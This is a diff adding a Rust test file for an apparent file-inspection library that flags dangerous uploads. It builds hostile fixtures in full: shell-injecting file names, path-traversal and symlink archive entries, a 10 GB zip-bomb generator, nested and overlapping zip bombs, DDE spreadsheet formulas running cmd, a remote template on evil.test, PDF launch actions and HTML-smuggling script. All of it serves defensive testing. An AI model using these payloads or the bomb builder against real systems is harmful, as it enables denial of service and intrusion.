@@ -1,0 +1,519 @@
+//! The content, MIME and archive rows of THREATS.md, against the inspector, with fixtures built here
+//! from real formats (zip written by the zip crate or by hand where a bomb needs it, tar by the tar
+//! crate, OLE by the cfb crate, PE and ELF headers).
+
+use inspect::{Input, Kind, Limits, Report, inspect};
+use std::io::{Cursor, Write};
+use std::time::{Duration, Instant};
+use zip::write::SimpleFileOptions;
+
+fn run(name: &str, data: &[u8]) -> Report {
+    inspect(
+        &Input { name: Some(name), declared_type: "application/octet-stream", data, truncated: false },
+        &Limits::default(),
+    )
+}
+
+fn kinds(r: &Report) -> Vec<Kind> {
+    r.issues.iter().map(|i| i.kind).collect()
+}
+
+fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    for (name, data) in members {
+        w.start_file(*name, SimpleFileOptions::default()).unwrap();
+        w.write_all(data).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+fn pe() -> Vec<u8> {
+    let mut d = vec![0u8; 1024];
+    d[..2].copy_from_slice(b"MZ");
+    d[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
+    d[0x80..0x84].copy_from_slice(b"PE\0\0");
+    d[0x84..0x86].copy_from_slice(&0x14cu16.to_le_bytes()); // i386
+    d
+}
+
+#[test]
+fn file_names_to_shell_are_data() {
+    let names = ["`touch /tmp/x`.txt", "$(id).doc", ";reboot;.pdf", "a|b&c>d.txt"];
+    let members: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, b"hello" as &[u8])).collect();
+    let r = run("names.zip", &zip_of(&members));
+    assert!(r.issues.is_empty(), "{:?}", r.issues);
+    let files: Vec<&str> = r.files.iter().map(|f| f.file.as_str()).collect();
+    for n in names {
+        assert!(files.contains(&format!("names.zip > {n}").as_str()), "{files:?}");
+    }
+    assert!(
+        !std::path::Path::new("/tmp/x").exists() || std::fs::metadata("/tmp/x").is_ok_and(|m| m.len() == 0)
+    );
+}
+
+#[test]
+fn archive_traversal_is_listed_in_memory_only() {
+    let zip = zip_of(&[("../../srv/x.jsp", b"<% x %>"), ("/etc/cron.d/x", b"* * * * * root id")]);
+    let r = run("t.zip", &zip);
+    assert_eq!(
+        r.issues.iter().filter(|i| i.kind == Kind::ArchiveSuspiciousPath).count(),
+        2,
+        "{:?}",
+        r.issues
+    );
+    // A tar with a symlink and then a file written "through" it.
+    let mut b = tar::Builder::new(Vec::new());
+    let mut h = tar::Header::new_gnu();
+    h.set_entry_type(tar::EntryType::Symlink);
+    h.set_size(0);
+    b.append_link(&mut h, "link", "/etc").unwrap();
+    let mut h = tar::Header::new_gnu();
+    h.set_size(4);
+    h.set_mode(0o644);
+    b.append_data(&mut h, "link/passwd", &b"root"[..]).unwrap();
+    let tar = b.into_inner().unwrap();
+    let r = run("t.tar", &tar);
+    assert!(
+        r.issues.iter().any(|i| i.kind == Kind::ArchiveSuspiciousPath && i.detail.contains("/etc")),
+        "{:?}",
+        r.issues
+    );
+    assert!(r.files.iter().any(|f| f.file == "t.tar > link/passwd"));
+    assert!(std::fs::read_to_string("/etc/passwd").is_ok_and(|p| p != "root"));
+}
+
+/// Deflate `chunk` zero bytes once with a full flush: repeating the block gives any length of zeros.
+fn zero_block(chunk: usize) -> Vec<u8> {
+    let mut c = flate2::Compress::new(flate2::Compression::best(), false);
+    let input = vec![0u8; chunk];
+    let mut out = Vec::with_capacity(chunk);
+    c.compress_vec(&input, &mut out, flate2::FlushCompress::Full).unwrap();
+    assert_eq!(c.total_in() as usize, chunk);
+    out
+}
+
+/// CRC-32 of `n` zero bytes without reading them: the CRC register after zeros is a linear map,
+/// applied by squaring (zlib's crc32_combine).
+fn crc32_of_zeros(mut n: u64) -> u32 {
+    fn times(mat: &[u32; 32], mut v: u32) -> u32 {
+        let mut sum = 0;
+        let mut i = 0;
+        while v != 0 {
+            if v & 1 != 0 {
+                sum ^= mat[i];
+            }
+            v >>= 1;
+            i += 1;
+        }
+        sum
+    }
+    fn square(mat: &[u32; 32]) -> [u32; 32] {
+        std::array::from_fn(|i| times(mat, mat[i]))
+    }
+    // Operator for one zero bit, then squared to bytes.
+    let mut odd = [0u32; 32];
+    odd[0] = 0xedb8_8320;
+    for (i, slot) in odd.iter_mut().enumerate().skip(1) {
+        *slot = 1 << (i - 1);
+    }
+    let mut even = square(&odd); // 2 bits
+    odd = square(&even); // 4 bits
+    let mut crc = 0xffff_ffffu32;
+    loop {
+        even = square(&odd); // first pass: 8 bits = 1 byte
+        if n & 1 != 0 {
+            crc = times(&even, crc);
+        }
+        n >>= 1;
+        if n == 0 {
+            break;
+        }
+        odd = square(&even);
+        if n & 1 != 0 {
+            crc = times(&odd, crc);
+        }
+        n >>= 1;
+        if n == 0 {
+            break;
+        }
+    }
+    !crc
+}
+
+/// A zip64 archive with one member `zeros.bin` that inflates to `size` zero bytes.
+fn zip_of_zeros(size: u64) -> Vec<u8> {
+    const CHUNK: usize = 1 << 20;
+    assert_eq!(size % CHUNK as u64, 0);
+    let block = zero_block(CHUNK);
+    let mut data = Vec::new();
+    for _ in 0..size / CHUNK as u64 {
+        data.extend_from_slice(&block);
+    }
+    data.extend_from_slice(&[0x03, 0x00]); // final empty fixed-Huffman block
+    let crc = crc32_of_zeros(size);
+    let name = b"zeros.bin";
+    let packed = data.len() as u64;
+    let zip64 = |with_offset: bool| {
+        let mut e = Vec::new();
+        e.extend_from_slice(&1u16.to_le_bytes());
+        e.extend_from_slice(&(if with_offset { 24u16 } else { 16 }).to_le_bytes());
+        e.extend_from_slice(&size.to_le_bytes());
+        e.extend_from_slice(&packed.to_le_bytes());
+        if with_offset {
+            e.extend_from_slice(&0u64.to_le_bytes());
+        }
+        e
+    };
+    let mut z = Vec::new();
+    let local_extra = zip64(false);
+    z.extend_from_slice(b"PK\x03\x04");
+    for v in [45u16, 0, 8, 0, 0x21] {
+        z.extend_from_slice(&v.to_le_bytes());
+    }
+    z.extend_from_slice(&crc.to_le_bytes());
+    z.extend_from_slice(&u32::MAX.to_le_bytes());
+    z.extend_from_slice(&u32::MAX.to_le_bytes());
+    z.extend_from_slice(&(name.len() as u16).to_le_bytes());
+    z.extend_from_slice(&(local_extra.len() as u16).to_le_bytes());
+    z.extend_from_slice(name);
+    z.extend_from_slice(&local_extra);
+    z.extend_from_slice(&data);
+    let cd_start = z.len() as u64;
+    let cd_extra = zip64(true);
+    z.extend_from_slice(b"PK\x01\x02");
+    for v in [45u16, 45, 0, 8, 0, 0x21] {
+        z.extend_from_slice(&v.to_le_bytes());
+    }
+    z.extend_from_slice(&crc.to_le_bytes());
+    z.extend_from_slice(&u32::MAX.to_le_bytes());
+    z.extend_from_slice(&u32::MAX.to_le_bytes());
+    for v in [name.len() as u16, cd_extra.len() as u16, 0, 0, 0] {
+        z.extend_from_slice(&v.to_le_bytes());
+    }
+    z.extend_from_slice(&0u32.to_le_bytes());
+    z.extend_from_slice(&u32::MAX.to_le_bytes());
+    z.extend_from_slice(name);
+    z.extend_from_slice(&cd_extra);
+    let cd_size = z.len() as u64 - cd_start;
+    let eocd64 = z.len() as u64;
+    z.extend_from_slice(b"PK\x06\x06");
+    z.extend_from_slice(&44u64.to_le_bytes());
+    z.extend_from_slice(&45u16.to_le_bytes());
+    z.extend_from_slice(&45u16.to_le_bytes());
+    z.extend_from_slice(&0u32.to_le_bytes());
+    z.extend_from_slice(&0u32.to_le_bytes());
+    z.extend_from_slice(&1u64.to_le_bytes());
+    z.extend_from_slice(&1u64.to_le_bytes());
+    z.extend_from_slice(&cd_size.to_le_bytes());
+    z.extend_from_slice(&cd_start.to_le_bytes());
+    z.extend_from_slice(b"PK\x06\x07");
+    z.extend_from_slice(&0u32.to_le_bytes());
+    z.extend_from_slice(&eocd64.to_le_bytes());
+    z.extend_from_slice(&1u32.to_le_bytes());
+    z.extend_from_slice(b"PK\x05\x06");
+    for v in [0u16, 0, 0xffff, 0xffff] {
+        z.extend_from_slice(&v.to_le_bytes());
+    }
+    z.extend_from_slice(&u32::MAX.to_le_bytes());
+    z.extend_from_slice(&u32::MAX.to_le_bytes());
+    z.extend_from_slice(&0u16.to_le_bytes());
+    z
+}
+
+#[test]
+fn the_zero_fixture_is_a_real_zip() {
+    // 4 MiB of zeros built the same way reads back whole with the right CRC through the zip crate.
+    let z = zip_of_zeros(4 << 20);
+    let mut a = zip::ZipArchive::new(Cursor::new(&z[..])).unwrap();
+    let mut f = a.by_index(0).unwrap();
+    let mut out = Vec::new();
+    std::io::Read::read_to_end(&mut f, &mut out).unwrap();
+    assert_eq!(out.len(), 4 << 20);
+    assert!(out.iter().all(|&b| b == 0));
+}
+
+#[test]
+fn single_entry_expanding_to_10_gb_stops_at_limits() {
+    let z = zip_of_zeros(10 << 30);
+    assert!(z.len() < 16 << 20, "fixture is {} bytes", z.len());
+    let started = Instant::now();
+    let r = run("bomb.zip", &z);
+    assert!(started.elapsed() < Duration::from_secs(5), "{:?}", started.elapsed());
+    assert!(r.has(Kind::ArchiveBomb) || r.has(Kind::ArchiveLimit), "{:?}", r.issues);
+    assert!(r.unscannable());
+}
+
+#[test]
+fn nested_zips_42_style_stop_at_depth_or_entries() {
+    // 16 copies per level, as 42.zip, with 1 MiB of zeros at the bottom.
+    let mut level = zip_of(&[("0.bin", &vec![0u8; 1 << 20])]);
+    for depth in 0..4 {
+        let name: Vec<String> = (0..16).map(|i| format!("lib{depth}_{i}.zip")).collect();
+        let members: Vec<(&str, &[u8])> = name.iter().map(|n| (n.as_str(), &level[..])).collect();
+        level = zip_of(&members);
+    }
+    let started = Instant::now();
+    let r = run("42.zip", &level);
+    assert!(started.elapsed() < Duration::from_secs(10));
+    assert!(r.has(Kind::ArchiveBomb) || r.has(Kind::ArchiveLimit), "{:?}", r.issues);
+    // Nesting alone, small at every level, is stopped by depth.
+    let mut nest = zip_of(&[("x.txt", b"hi")]);
+    for i in 0..8 {
+        nest = zip_of(&[(&format!("n{i}.zip"), &nest)]);
+    }
+    let r = run("nest.zip", &nest);
+    assert!(
+        r.issues.iter().any(|i| i.kind == Kind::ArchiveBomb && i.detail.contains("nested")),
+        "{:?}",
+        r.issues
+    );
+}
+
+#[test]
+fn overlapping_entries_are_a_bomb() {
+    // Fifield-style: many central directory records pointing at one local file's data.
+    let base = zip_of(&[("a.txt", &vec![b'a'; 5000])]);
+    let cd = base.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
+    let eocd = base.windows(4).position(|w| w == b"PK\x05\x06").unwrap();
+    let record = base[cd..eocd].to_vec();
+    let mut z = base[..cd].to_vec();
+    let copies = 50u16;
+    for i in 0..copies {
+        let mut r = record.clone();
+        let name_at = 46;
+        r[name_at] = b'a' + (i % 26) as u8;
+        z.extend_from_slice(&r);
+    }
+    let cd_size = (z.len() - cd) as u32;
+    z.extend_from_slice(b"PK\x05\x06\0\0\0\0");
+    z.extend_from_slice(&copies.to_le_bytes());
+    z.extend_from_slice(&copies.to_le_bytes());
+    z.extend_from_slice(&cd_size.to_le_bytes());
+    z.extend_from_slice(&(cd as u32).to_le_bytes());
+    z.extend_from_slice(&0u16.to_le_bytes());
+    let r = run("overlap.zip", &z);
+    assert!(
+        r.issues.iter().any(|i| i.kind == Kind::ArchiveBomb && i.detail.contains("overlap")),
+        "{:?}",
+        r.issues
+    );
+}
+
+#[test]
+fn entry_count_and_total_limits() {
+    let names: Vec<String> = (0..1500).map(|i| format!("f{i}.txt")).collect();
+    let members: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), b"x" as &[u8])).collect();
+    let r = run("many.zip", &zip_of(&members));
+    assert!(r.has(Kind::ArchiveLimit), "{:?}", r.issues);
+    let limits = Limits { max_total_bytes: 100_000, ..Limits::default() };
+    let big: Vec<u8> = (0..60_000u32).flat_map(|i| i.to_le_bytes()).collect();
+    let z = zip_of(&[("a.bin", &big), ("b.bin", &big)]);
+    let r = inspect(&Input { name: Some("t.zip"), declared_type: "", data: &z, truncated: false }, &limits);
+    assert!(
+        r.issues.iter().any(|i| i.kind == Kind::ArchiveLimit && i.detail.contains("total")),
+        "{:?}",
+        r.issues
+    );
+}
+
+#[test]
+fn encrypted_members_are_their_own_finding() {
+    let mut z = zip_of(&[("secret.exe", &pe())]);
+    // Set general purpose bit 0 (encrypted) in the local and central headers, as ZipCrypto does.
+    for sig in [&b"PK\x03\x04"[..], b"PK\x01\x02"] {
+        let at = z.windows(4).position(|w| w == sig).unwrap();
+        let off = if sig == b"PK\x03\x04" { 6 } else { 8 };
+        z[at + off] |= 1;
+    }
+    let r = run("protected.zip", &z);
+    assert!(r.has(Kind::ArchiveEncrypted), "{:?}", r.issues);
+    assert!(r.unscannable());
+    let mut seven = vec![0u8; 128];
+    seven[..6].copy_from_slice(b"7z\xbc\xaf\x27\x1c");
+    seven[80..84].copy_from_slice(b"\x06\xf1\x07\x01");
+    let r = run("p.7z", &seven);
+    assert!(r.has(Kind::ArchiveEncrypted) && r.has(Kind::ArchiveUninspectable), "{:?}", r.issues);
+}
+
+#[test]
+fn name_spoofing_uses_the_true_final_extension() {
+    let r = run("inv\u{202e}fdp.exe", &pe());
+    let k = kinds(&r);
+    assert!(k.contains(&Kind::BidiName) && k.contains(&Kind::Executable), "{k:?}");
+    assert_eq!(r.files[0].extension.as_deref(), Some("exe"));
+    assert!(r.issues.iter().all(|i| !i.file.contains('\u{202e}')));
+    let r = run("report.pdf...", b"%PDF-1.4\n");
+    assert!(kinds(&r).contains(&Kind::DeceptiveName));
+    let long = format!("a{}.txt", "b".repeat(5000));
+    assert!(kinds(&run(&long, b"x")).contains(&Kind::DeceptiveName));
+    let r = run("invoice.pdf\0.txt", &pe());
+    assert!(kinds(&r).contains(&Kind::DeceptiveName));
+    assert_eq!(r.files[0].extension.as_deref(), Some("pdf"));
+    assert!(kinds(&r).contains(&Kind::TypeMismatch));
+    assert!(kinds(&run("invoice.pdf.exe", &pe())).contains(&Kind::DoubleExtension));
+}
+
+#[test]
+fn executables_scripts_and_disk_images_in_and_out_of_archives() {
+    assert!(kinds(&run("scan.pdf", &pe())).contains(&Kind::TypeMismatch));
+    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
+    let z = zip_of(&[
+        ("docs/readme.txt", b"hello"),
+        ("docs/tool", &elf),
+        ("run.bat", b"@echo off\r\nstart calc\r\n"),
+    ]);
+    let r = run("bundle.zip", &z);
+    let k = kinds(&r);
+    assert!(k.contains(&Kind::Executable) && k.contains(&Kind::Script), "{:?}", r.issues);
+    assert!(r.issues.iter().any(|i| i.file == "bundle.zip > docs/tool"));
+    let mut iso = vec![0u8; 0x9000];
+    iso[0x8001..0x8006].copy_from_slice(b"CD001");
+    let tgz = {
+        let mut b = tar::Builder::new(Vec::new());
+        let mut h = tar::Header::new_gnu();
+        h.set_size(iso.len() as u64);
+        h.set_mode(0o644);
+        b.append_data(&mut h, "disk.iso", &iso[..]).unwrap();
+        let tar = b.into_inner().unwrap();
+        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        gz.write_all(&tar).unwrap();
+        gz.finish().unwrap()
+    };
+    let r = run("images.tgz", &tgz);
+    assert!(
+        r.issues.iter().any(|i| i.kind == Kind::DiskImage && i.file == "images.tgz > images.tar > disk.iso"),
+        "{:?}",
+        r.issues
+    );
+}
+
+fn ole(streams: &[&str]) -> Vec<u8> {
+    let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    for s in streams {
+        if let Some((dir, _)) = s.rsplit_once('/') {
+            c.create_storage_all(dir).unwrap();
+        }
+        let mut st = c.create_stream(s).unwrap();
+        st.write_all(&[1u8; 100]).unwrap();
+    }
+    c.flush().unwrap();
+    c.into_inner().into_inner()
+}
+
+#[test]
+fn office_macros_and_external_templates() {
+    let clean = ole(&["/WordDocument", "/1Table"]);
+    assert!(run("letter.doc", &clean).issues.is_empty());
+    let macro_doc = ole(&[
+        "/WordDocument",
+        "/Macros/PROJECT",
+        "/Macros/VBA/dir",
+        "/Macros/VBA/_VBA_PROJECT",
+        "/Macros/VBA/Module1",
+    ]);
+    assert!(kinds(&run("invoice.doc", &macro_doc)).contains(&Kind::OfficeMacro));
+    let encrypted = ole(&["/EncryptionInfo", "/EncryptedPackage"]);
+    assert!(kinds(&run("secret.docx", &encrypted)).contains(&Kind::ArchiveEncrypted));
+    let ct_plain = br#"<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
+    let docx = zip_of(&[("[Content_Types].xml", ct_plain), ("word/document.xml", b"<w:document/>")]);
+    assert!(run("plain.docx", &docx).issues.is_empty(), "{:?}", run("plain.docx", &docx).issues);
+    let ct_macro = br#"<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
+    let docm = zip_of(&[
+        ("[Content_Types].xml", ct_macro),
+        ("word/document.xml", b"<w:document/>"),
+        ("word/vbaProject.bin", &macro_doc),
+    ]);
+    let r = run("report.docm", &docm);
+    assert!(
+        r.issues.iter().any(|i| i.kind == Kind::OfficeMacro && i.file == "report.docm"),
+        "{:?}",
+        r.issues
+    );
+    let rels = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>"#;
+    let remote = zip_of(&[("[Content_Types].xml", ct_plain), ("word/_rels/settings.xml.rels", rels)]);
+    let r = run("remote.docx", &remote);
+    assert!(
+        r.issues.iter().any(|i| i.kind == Kind::OfficeExternalTemplate && i.detail.contains("evil.test")),
+        "{:?}",
+        r.issues
+    );
+    let msi = {
+        let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+        let clsid = "000C1084-0000-0000-C000-000000000046".parse().unwrap();
+        c.set_storage_clsid("/", clsid).unwrap();
+        c.create_stream("/x").unwrap().write_all(b"y").unwrap();
+        c.flush().unwrap();
+        c.into_inner().into_inner()
+    };
+    let r = run("update.doc", &msi);
+    assert!(
+        kinds(&r).contains(&Kind::Executable) && kinds(&r).contains(&Kind::TypeMismatch),
+        "{:?}",
+        r.issues
+    );
+}
+
+#[test]
+fn parser_eval_spreadsheet_formats_are_never_evaluated() {
+    let ct = br#"<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#;
+    let styles = br#"<styleSheet><numFmts count="1"><numFmt numFmtId="164" formatCode="[$-x-sysdate]=cmd|' /C touch /tmp/portcullis-eval'!A0;@"/></numFmts></styleSheet>"#;
+    let sheet = br#"<worksheet><sheetData><row r="1"><c r="A1"><f>=cmd|' /C touch /tmp/portcullis-eval'!A0</f></c></row></sheetData></worksheet>"#;
+    let xlsx = zip_of(&[
+        ("[Content_Types].xml", ct),
+        ("xl/styles.xml", styles),
+        ("xl/worksheets/sheet1.xml", sheet),
+    ]);
+    let r = run("budget.xlsx", &xlsx);
+    assert!(r.issues.is_empty(), "{:?}", r.issues);
+    assert!(!std::path::Path::new("/tmp/portcullis-eval").exists());
+    // Garbage that looks like each format: reported, never a panic.
+    for (name, head) in [
+        ("a.zip", &b"PK\x03\x04garbage"[..]),
+        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1junk"),
+        ("a.gz", b"\x1f\x8b\x08\x00junk"),
+        ("a.pdf", b"%PDF-1.7 stream\r\nx\x9c\xff\xff"),
+    ] {
+        let _ = run(name, head);
+    }
+}
+
+#[test]
+fn pdf_and_html_payloads() {
+    let pdf = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('x'))>>>>endobj\n2 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj\n3 0 obj<</Type/#45mbeddedFile>>endobj";
+    let k = kinds(&run("statement.pdf", pdf));
+    for want in [Kind::PdfJavascript, Kind::PdfLaunch, Kind::PdfAutoAction, Kind::PdfEmbeddedFile] {
+        assert!(k.contains(&want), "{want:?} in {k:?}");
+    }
+    let html = b"<html><body><script>const d=atob('TVqQAAMAAAAEAAAA');const b=new Blob([d]);const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='doc.iso';a.click();</script></body></html>";
+    assert!(kinds(&run("message.html", html)).contains(&Kind::HtmlSmuggling));
+}
+
+#[test]
+fn raw_bytes_never_panic() {
+    let mut seed = 0x1234_5678u32;
+    for len in [0usize, 1, 2, 7, 512, 4096, 70_000] {
+        let data: Vec<u8> = (0..len)
+            .map(|_| {
+                seed ^= seed << 13;
+                seed ^= seed >> 17;
+                seed ^= seed << 5;
+                seed as u8
+            })
+            .collect();
+        for prefix in [
+            &b""[..],
+            b"PK\x03\x04",
+            b"\x1f\x8b",
+            b"%PDF-",
+            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
+            b"<html><script>",
+        ] {
+            let mut d = prefix.to_vec();
+            d.extend_from_slice(&data);
+            let _ = run("\u{0}\u{202e}\u{feff}x.\u{7f}", &d);
+        }
+    }
+    let r =
+        inspect(&Input { name: None, declared_type: "", data: b"abc", truncated: true }, &Limits::default());
+    assert!(r.has(Kind::Unscannable));
+}
